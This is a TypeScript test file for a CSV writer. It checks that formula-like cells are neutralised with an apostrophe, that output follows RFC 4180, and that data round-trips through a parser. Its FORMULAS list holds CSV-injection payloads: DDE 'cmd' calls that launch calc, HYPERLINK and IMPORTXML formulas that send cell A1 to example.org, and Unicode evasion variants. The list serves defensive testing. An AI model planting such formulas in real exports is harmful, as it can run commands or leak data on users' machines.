// CSV that is written: read back by an independent parser, and safe to open in a spreadsheet.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { csvLine, writeCsv } from '../../../geodata/formats/csv_write.ts';

/** From the OWASP page on CSV injection and from reports about spreadsheets; each must come out as text. */
const FORMULAS = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://example.org?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
  '+1+1',
  '+2348012345678',
  '-1+1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '|calc',
  '%0A=1',
  '\t=1+1',
  '\ttext',
  '\r=1+1',
  '\rtext',
  '\n=1+1',
  '\uFEFF=1+1',
  '\uFEFF\uFEFF\t@x',
  '\u0000=1+1',
  '\u0085=1',
  '\u200B=1+1',
  '  =1+1',
  '\u00A0+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

const read = (text: string): string[][] =>
  parse(text, { relaxColumnCount: false, recordDelimiter: '\r\n', bom: false });

it('puts an apostrophe before every text that a spreadsheet could take for a formula', () => {
  for (const formula of FORMULAS) expect(read(csvLine(['x', formula]))).toEqual([['x', `'${formula}`]]);
});

it('leaves other text as it is, with these signs inside it too', () => {
  for (const text of [
    'Clinic',
    'a=b',
    'a-b',
    'info@example.org',
    '50 %',
    'Ⅱ',
    "'quoted'",
    '(-1)',
    'مستشفى',
    '#1',
    '',
  ]) {
    expect(read(csvLine(['x', text]))).toEqual([['x', text]]);
  }
});

it('writes numbers as numbers and truth as words, and nothing for what is not known', () => {
  expect(csvLine([-12.5, 1e21, 0, true, false, null, undefined])).toBe('-12.5,1e+21,0,true,false,,\r\n');
});

it('is RFC 4180: a header, CRLF, quotes doubled, line breaks and commas inside quotes', () => {
  expect(
    writeCsv(
      ['id', 'note'],
      [
        [1, 'say "no", twice'],
        [2, 'two\r\nlines'],
        [3, ''],
      ],
    ),
  ).toBe('id,note\r\n1,"say ""no"", twice"\r\n2,"two\r\nlines"\r\n3,\r\n');
  expect(writeCsv(['id'], [['']])).toBe('id\r\n""\r\n');
  expect(writeCsv(['id', 'note'], [])).toBe('id,note\r\n');
});

it('comes back from a parser as it was, for any text, and never begins a cell with a sign', () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(fc.string({ unit: 'binary' }), fc.string()), { minLength: 1 }), (records) => {
      const back = read(writeCsv(['a', 'b'], records)).slice(1);
      expect(back.map((record) => record.length)).toEqual(records.map(() => 2));
      back.flat().forEach((text, i) => {
        const given = records.flat()[i] ?? '';
        expect([given, `'${given}`]).toContain(text);
        expect(text).not.toMatch(/^[=+\-@|%\t\r]/);
      });
    }),
  );
});
